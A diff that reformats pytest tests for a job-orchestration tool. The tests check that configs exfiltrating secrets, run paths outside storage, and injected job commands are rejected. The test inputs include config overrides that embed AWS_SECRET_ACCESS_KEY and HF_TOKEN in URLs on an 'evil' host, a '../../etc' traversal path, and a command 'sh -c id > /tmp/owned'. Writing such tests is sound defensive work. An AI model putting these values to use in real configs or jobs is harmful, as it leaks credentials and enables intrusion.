@@ -22,23 +22,35 @@ HEAL = str(Path(sys.executable).parent / "heal")
 # ---- configs refused at the door ---------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("override, named", [
-    ("teacher.server.api_key_env=AWS_SECRET_ACCESS_KEY", "teacher.server.api_key_env"),
-    ("teacher.server.api_key_env=HF_TOKEN", "teacher.server.api_key_env"),
-    ("teacher.server.url=http://${AWS_SECRET_ACCESS_KEY}.evil/v1", "teacher.server.url"),
-    ('storage.storage_options={endpoint_url: "http://evil/${AWS_SECRET_ACCESS_KEY}"}',
-     "storage.storage_options.endpoint_url"),
-    ('storage.storage_options={client_kwargs: {region_name: "${HF_TOKEN}"}}',
-     "storage.storage_options.client_kwargs.region_name"),
-])
+@pytest.mark.parametrize(
+    "override, named",
+    [
+        ("teacher.server.api_key_env=AWS_SECRET_ACCESS_KEY", "teacher.server.api_key_env"),
+        ("teacher.server.api_key_env=HF_TOKEN", "teacher.server.api_key_env"),
+        ("teacher.server.url=http://${AWS_SECRET_ACCESS_KEY}.evil/v1", "teacher.server.url"),
+        (
+            'storage.storage_options={endpoint_url: "http://evil/${AWS_SECRET_ACCESS_KEY}"}',
+            "storage.storage_options.endpoint_url",
+        ),
+        (
+            'storage.storage_options={client_kwargs: {region_name: "${HF_TOKEN}"}}',
+            "storage.storage_options.client_kwargs.region_name",
+        ),
+    ],
+)
 def test_a_config_that_would_send_a_secret_elsewhere_is_refused_naming_the_key(override, named):
     with pytest.raises(ConfigError, match=named.replace(".", r"\.")):
         parse_config({}, [override])
 
 
 def test_a_reference_in_a_credential_field_and_the_teachers_own_key_are_taken():
-    cfg = parse_config({}, ['storage.storage_options={key: "${MINIO_USER}", secret: "${MINIO_PASSWORD}"}',
-                            "teacher.server.api_key_env=HEAL_TEACHER_API_KEY"])
+    cfg = parse_config(
+        {},
+        [
+            'storage.storage_options={key: "${MINIO_USER}", secret: "${MINIO_PASSWORD}"}',
+            "teacher.server.api_key_env=HEAL_TEACHER_API_KEY",
+        ],
+    )
     assert cfg.teacher.server.api_key_env == "HEAL_TEACHER_API_KEY"
 
 
@@ -70,8 +82,12 @@ def test_the_teacher_server_key_must_be_one_the_worker_allows(monkeypatch):
 def test_a_run_root_outside_the_configured_storage_is_refused(tmp_path):
     cfg = parse_config({"storage": {"uri": str(tmp_path / "store")}})
     assert Run.at(f"{tmp_path}/store/runs/r1", cfg).run_id == "r1"
-    for root in (f"{tmp_path}/elsewhere/runs/r1", f"{tmp_path}/store/runs/../../etc", f"{tmp_path}/store/r1",
-                 "/etc/runs/x"):
+    for root in (
+        f"{tmp_path}/elsewhere/runs/r1",
+        f"{tmp_path}/store/runs/../../etc",
+        f"{tmp_path}/store/r1",
+        "/etc/runs/x",
+    ):
         with pytest.raises(ValueError, match="run_root|run id"):
             Run.at(root, cfg)
 
@@ -122,15 +138,26 @@ def test_an_authenticated_server_refuses_strangers_and_heal_s_pools_refuse_a_com
         cfg = parse_config({}, [f"storage.uri={tmp_path / 'store'}"])
         (tmp_path / "config.yaml").write_text(cfg.to_yaml())
         env = {**server.env, "PREFECT_API_URL": server.api, "PREFECT_API_AUTH_STRING": "heal-admin:correct-horse"}
-        deployed = subprocess.run([HEAL, "deploy", str(tmp_path / "config.yaml")], env=env, capture_output=True,
-                                  text=True, cwd=Path(__file__).parents[1], timeout=300)
+        deployed = subprocess.run(
+            [HEAL, "deploy", str(tmp_path / "config.yaml")],
+            env=env,
+            capture_output=True,
+            text=True,
+            cwd=Path(__file__).parents[1],
+            timeout=300,
+        )
         assert deployed.returncode == 0, deployed.stdout + deployed.stderr
         with httpx.Client(base_url=server.api, auth=("heal-admin", "correct-horse"), timeout=30) as client:
             shard = client.get("/deployments/name/heal-shard/heal-shard").raise_for_status().json()["id"]
             parameters = {"run_root": f"{tmp_path}/store/runs/x", "shard": 0, "config": cfg.model_dump(mode="json")}
-            refused = {variable: _create(client, shard, {"parameters": parameters, "job_variables": {variable: value}})
-                       for variable, value in (("command", "sh -c 'id > /tmp/owned'"), ("env", {"PYTHONPATH": "/tmp"}),
-                                               ("working_dir", "/tmp"))}
+            refused = {
+                variable: _create(client, shard, {"parameters": parameters, "job_variables": {variable: value}})
+                for variable, value in (
+                    ("command", "sh -c 'id > /tmp/owned'"),
+                    ("env", {"PYTHONPATH": "/tmp"}),
+                    ("working_dir", "/tmp"),
+                )
+            }
             taken = _create(client, shard, {"parameters": parameters, "job_variables": {"name": "fine"}})
             pool = client.get("/work_pools/gpu").raise_for_status().json()
         for variable, response in refused.items():
